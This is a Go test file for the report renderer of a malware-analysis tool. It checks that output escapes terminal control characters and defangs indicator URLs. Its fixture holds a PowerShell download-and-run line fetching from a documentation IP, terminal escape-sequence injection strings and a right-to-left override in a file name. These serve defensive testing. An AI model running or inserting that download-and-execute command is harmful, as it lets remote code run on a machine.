package render

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/automaldesc/automaldesc/analysis"
	"github.com/automaldesc/automaldesc/analysis/indicators"
	"github.com/automaldesc/automaldesc/analysis/ioc"
	"github.com/automaldesc/automaldesc/analysis/lang"
	"github.com/automaldesc/automaldesc/analysis/verdict"
)

func sampleReport() *analysis.Report {
	return &analysis.Report{
		SchemaVersion: analysis.SchemaVersion,
		Sample:        analysis.SampleInfo{SHA256: strings.Repeat("a", 64), Name: `x\u202e.ps1`, Path: "/q/x.ps1", Size: 42},
		Status:        analysis.StatusOK,
		Language:      lang.Result{Language: lang.PowerShell, Confidence: 0.9},
		Encoding:      "utf-8",
		Layers:        []analysis.Layer{{Index: 0, Parent: -1, Method: "original"}, {Index: 1, Parent: 0, Method: "ps.encodedcommand"}},
		Indicators: []indicators.Hit{{ID: "ps.download.webclient", Title: "Download with WebClient", Severity: indicators.SeverityHigh,
			Techniques: []string{"T1105"}, Layer: 1, Line: 1, Column: 1, Excerpt: "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')\x1b[2J"}},
		IOCs:        []ioc.IOC{{Type: ioc.URL, Value: "http://192.0.2.1/a", Defanged: "hxxp://192.0.2[.]1/a", Layer: 1}},
		Verdict:     analysis.Verdict{Label: verdict.Malicious, Score: 0.97, Source: "rules"},
		Explanation: analysis.Explanation{Summary: "Downloads from http://192.0.2.1/a and runs it.\x1b]0;pwned\x07", Source: "rules"},
	}
}

func TestTextReportEscapesAndDefangs(t *testing.T) {
	var b bytes.Buffer
	if err := TextReport(&b, sampleReport(), false); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if strings.Contains(out, "\x1b") || strings.Contains(out, "\x07") {
		t.Errorf("raw control characters from attacker text reached the terminal:\n%q", out)
	}
	if strings.Contains(out, "http://192.0.2.1") {
		t.Errorf("live IOC in human-facing text:\n%s", out)
	}
	for _, want := range []string{"MALICIOUS", "hxxp://192.0.2[.]1/a", "ps.download.webclient", "T1105", "1:ps.encodedcommand<-0"} {
		if !strings.Contains(out, want) {
			t.Errorf("text report lacks %q:\n%s", want, out)
		}
	}
}

func TestWriterFormats(t *testing.T) {
	for _, tc := range []struct {
		f     Format
		check func(t *testing.T, out string)
	}{
		{JSON, func(t *testing.T, out string) {
			var v []map[string]any
			if err := json.Unmarshal([]byte(out), &v); err != nil || len(v) != 2 {
				t.Errorf("json: got %v / %d items, want an array of 2", err, len(v))
			}
		}},
		{JSONL, func(t *testing.T, out string) {
			lines := strings.Split(strings.TrimSpace(out), "\n")
			if len(lines) != 2 {
				t.Fatalf("jsonl: got %d lines, want 2", len(lines))
			}
			for _, l := range lines {
				if !json.Valid([]byte(l)) {
					t.Errorf("jsonl line is not JSON: %s", l)
				}
			}
		}},
		{Paper, func(t *testing.T, out string) {
			var p PaperRecord
			if err := json.Unmarshal([]byte(strings.Split(out, "\n")[0]), &p); err != nil {
				t.Fatal(err)
			}
			if p.Label != 1 || p.Language != "powershell" || p.Path != "/q/x.ps1" {
				t.Errorf("paper: got %+v", p)
			}
		}},
	} {
		t.Run(string(tc.f), func(t *testing.T) {
			var b bytes.Buffer
			w := NewWriter(&b, tc.f, false)
			for range 2 {
				if err := w.Write(sampleReport()); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			tc.check(t, b.String())
		})
	}
	var b bytes.Buffer
	if err := NewWriter(&b, JSON, false).Close(); err != nil || strings.TrimSpace(b.String()) != "[]" {
		t.Errorf("empty json stream: got %q, want []", b.String())
	}
}

func TestParseFormat(t *testing.T) {
	for _, ok := range []string{"text", "JSON", "jsonl", "paper"} {
		if _, err := ParseFormat(ok); err != nil {
			t.Errorf("ParseFormat(%q): %v", ok, err)
		}
	}
	if _, err := ParseFormat("xml"); err == nil {
		t.Error("ParseFormat(xml): got nil error")
	}
}
